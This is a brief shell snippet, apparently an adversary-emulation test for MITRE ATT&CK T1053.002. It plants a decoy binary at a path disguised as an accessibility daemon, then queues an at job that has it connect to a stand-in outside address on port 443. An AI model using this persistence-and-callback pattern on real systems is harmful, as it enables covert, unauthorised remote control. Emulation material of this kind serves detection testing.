# technique: T1053.002
# location: linux.at
# target: /var/lib/at-spi/registryd
install -D -m 755 /bin/true /var/lib/at-spi/registryd
echo '/var/lib/at-spi/registryd --connect 203.0.113.9:443' | at -q b 04:00 tomorrow
